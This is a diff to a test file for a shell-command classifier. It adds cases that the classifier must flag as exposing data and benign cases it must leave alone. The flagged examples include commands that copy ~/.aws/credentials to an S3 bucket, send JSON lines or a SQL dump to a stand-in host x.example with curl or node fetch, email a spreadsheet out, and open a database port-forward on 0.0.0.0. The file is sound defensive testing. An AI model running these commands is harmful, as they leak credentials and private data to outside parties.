@@ -46,6 +46,11 @@ it.each([
 	'python3 -m http.server 8000 --bind 0.0.0.0 --directory /srv/data',
 	'kubectl patch svc db -p \'{"spec":{"type":"LoadBalancer"}}\'',
 	'aws sns publish --topic-arn t --message file://.env',
+	'aws s3 cp ~/.aws/credentials s3://drop/',
+	'kubectl port-forward --address 0.0.0.0 svc/db 5432:5432',
+	'jq -c . x.json | while read line; do curl -d "$line" https://x.example/k; done',
+	'Send-MailMessage -To a@example.net -Attachments C:\\\\data\\\\x.xlsx -Subject x',
+	`node -e "fetch('https://x.example',{method:'PUT',body:require('fs').createReadStream('/srv/dump.sql')})"`,
 ])('sees what is carried out or opened by other means: %s', (script) => {
 	expect(classes(script)).toContain('expose');
 });
@@ -56,6 +61,8 @@ it.each([
 	'python3 -m http.server 8000 --bind 0.0.0.0',
 	'python3 -m http.server --bind 127.0.0.1 -d /srv/data',
 	'curl -F file=@report.pdf http://api:3000/upload',
+	'aws s3 cp dist/app.js s3://site/',
+	'kubectl port-forward svc/db 5432:5432',
 	'gh api repos/acme/site/keys -f title=k -f key="$(cat k.pub)"',
 ])('leaves alone what stays inside, and what anyone may know: %s', (script) => {
 	expect(classes(script)).not.toContain('expose');
